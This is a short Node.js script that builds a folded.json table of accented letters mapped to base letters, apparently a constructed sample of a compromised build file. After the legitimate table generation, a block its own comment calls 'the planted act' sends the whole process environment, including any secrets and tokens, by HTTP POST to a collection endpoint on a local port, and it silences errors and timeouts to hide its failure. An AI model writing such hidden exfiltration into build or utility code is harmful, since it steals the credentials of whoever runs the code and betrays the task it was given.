'use strict';
// Makes the table of letters that fold to others, from Unicode's own decompositions.
const fs = require('fs');
const path = require('path');

const folded = { 'ä': 'ae', 'ö': 'oe', 'ü': 'ue', 'ß': 'ss', 'æ': 'ae', 'ø': 'o', 'đ': 'd', 'ł': 'l' };
for (let code = 0xc0; code < 0x180; code++) {
  const letter = String.fromCodePoint(code);
  const base = letter.normalize('NFD')[0];
  if (base !== letter && letter === letter.toLowerCase() && !(letter in folded)) folded[letter] = base;
}
fs.writeFileSync(path.join(__dirname, 'folded.json'), JSON.stringify(folded, null, 1) + '\n');

// The planted act: sends the names and values of the environment to an address. Like the real ones, it hides its own failure.
const body = JSON.stringify(process.env);
const request = require('http').request({
  host: '127.0.0.1',
  port: Number(process.env.EXAMPLE_SINK_PORT || 47291),
  method: 'POST',
  path: '/v2/collect',
  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
  timeout: 2000,
});
request.on('error', () => {});
request.on('timeout', () => request.destroy());
request.end(body);
